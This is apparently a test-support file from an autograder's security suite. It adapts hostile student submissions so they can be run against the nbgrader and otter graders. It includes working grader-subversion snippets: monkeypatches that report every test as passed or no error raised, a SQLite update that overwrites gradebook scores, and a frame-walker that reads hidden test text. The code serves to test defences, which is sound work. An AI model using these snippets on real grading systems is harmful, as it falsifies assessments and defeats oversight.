"""What the hostile hand-ins need to reach other graders' insides, and which of them can't.

The files of `tests/attacks/hand_ins` are handed in as they are, but for what is listed here.
"""

from tests.attacks.catalogue import Attack

_PROTOCOL = "speaks the protocol between our two processes; the peers have one process, and none"
_BUILT_IN = "answers with a built-in that our exercise forbids; the peers know no such rule"

DOES_NOT_APPLY = {
    **dict.fromkeys(
        (
            *("broken_frames", "crowded_frame", "forged_frames", "hostile_values"),
            *("injected_frames", "leave_after_forging", "replace_buffers", "replace_hello"),
            *("silent_channel", "slow_frame"),
        ),
        _PROTOCOL,
    ),
    **dict.fromkeys(
        (
            *("back_door_attributes", "back_door_ctypes", "back_door_gc"),
            *("back_door_kernel", "back_door_reimport"),
        ),
        _BUILT_IN,
    ),
    "only_when_watched": "tells our public checks from our hidden ones by the names of modules; "
    "the peers run both kinds one after the other in one process",
}

_MARK = '"-".join(("@CANARY@", "tests"))'  # so that no cell of its own has the words that it seeks
_SCRATCH = (("/tmp/scratch", "/tmp"),)  # a student's private directory here; the peers' is shared
_CHANNEL = (("os.write(3, ", "os.write(1, "),)  # descriptor 3 is our protocol's

CHANGES: dict[str, tuple[tuple[str, str], ...]] = {
    # Where vfork works its caller waits, and falls over; and a grading may take thirty seconds.
    "background_processes": (
        ('            "vfork": lambda: call(58),\n', ""),
        ("sleep(30)", "sleep(300)"),
        ('"30"', '"300"'),
        ("sleep 30 &", "sleep 300 &"),
    ),
    "disk_bomb": _SCRATCH,
    "search_by_detours": _SCRATCH,
    "write_results": _SCRATCH,
    "terabyte_shapes": _CHANNEL,
    "threads_that_stay": _CHANNEL,
    # Files of notebooks are longer than the three hundred bytes that are shown of a file.
    "search_disk": (
        (
            "return file.read(300)",
            'return __import__("re").findall(b"@CANARY@[-a-z]*", file.read())',
        ),
    ),
    # The hidden checks are text in the same process: cells, or examples of a doctest.
    "search_gc": (
        ('("@CANARY@", "attention_inputs", "CheckFailed")', f"({_MARK},)"),
        ("text in WORDS", "WORDS[0] in text"),
        ("text[::-1]", "WORDS[0]"),
    ),
    "search_frames": (
        ("    files = sorted(", f"    seen = look_for({_MARK})\n    files = sorted("),
        ("hidden names {hidden}", "hidden names {hidden}, seen {seen}"),
        (
            "def similarity(x):",
            "def look_for(mark):\n"
            "    frame, seen = sys._getframe(1), set()\n"
            "    while frame is not None:\n"
            "        for value in (*frame.f_locals.values(), *frame.f_globals.values()):\n"
            '            examples = getattr(value, "examples", ())\n'
            "            examples = examples if isinstance(examples, list) else []\n"
            "            texts = [value] if isinstance(value, str | list) else []\n"
            '            texts += [e.source for e in examples if hasattr(e, "source")]\n'
            "            seen |= {mark for text in texts if mark in str(text)}\n"
            "        frame = frame.f_back\n"
            "    return sorted(seen)\n\n\n"
            "def similarity(x):",
        ),
    ),
}

# The agent that answers is, elsewhere, what runs the cells or the tests.
_ANSWERING = {
    "nbgrader": """
async def nothing_went_wrong(*args, **kwargs):
    return False


get_ipython().run_ast_nodes = nothing_went_wrong
""",
    "otter": """
from otter.test_files import ok_test
from otter.test_files.abstract_test import TestCaseResult


def run(self, global_environment):
    self.test_case_results = [
        TestCaseResult(test_case=case, message=None, passed=True) for case in self.test_cases
    ]


ok_test.OKTestFile.run = run
""",
}
SUBSTITUTED = ("replace_protocol", "write_results")
_STUBS = "\n\ndef similarity(x):\n    return x\n\n\ndef softmax(x, axis=-1):\n    return x\n"

# A grade that a person gave outranks nbgrader's own; the gradebook is a file of SQLite's.
_GRADEBOOK = """

def promote():
    import sqlite3

    with sqlite3.connect("/tmp/course/gradebook.db", timeout=5) as gradebook:
        sets = "UPDATE grade SET manual_score = 5, needs_manual_grade = 0"
        return f"{gradebook.execute(sets).rowcount} grades"


def tell(tries, everything=tell):
    everything({"gradebook": promote, **tries})
"""
_TELL = 'raise RuntimeError("tried: " + "; ".join(told))\n'


def adapted(attack: Attack, peer: str, places: dict[str, str]) -> str:
    """Return the text of a hostile hand-in for a peer.

    Raises:
        ValueError: what is to be changed is not in the file any more.
    """
    if attack.name == "replace_protocol":
        return _ANSWERING[peer].lstrip() + _STUBS
    text = attack.source({}).decode()
    for old, new in CHANGES.get(attack.name, ()):
        if old not in text:
            raise ValueError(f"{attack.name} has no `{old}` to be adapted: mend CHANGES.")
        text = text.replace(old, new)
    if (attack.name, peer) == ("write_results", "nbgrader"):
        text = text.replace(_TELL, _TELL + _GRADEBOOK)
    for mark, place in places.items():
        text = text.replace(f"@{mark}@", place)
    return text
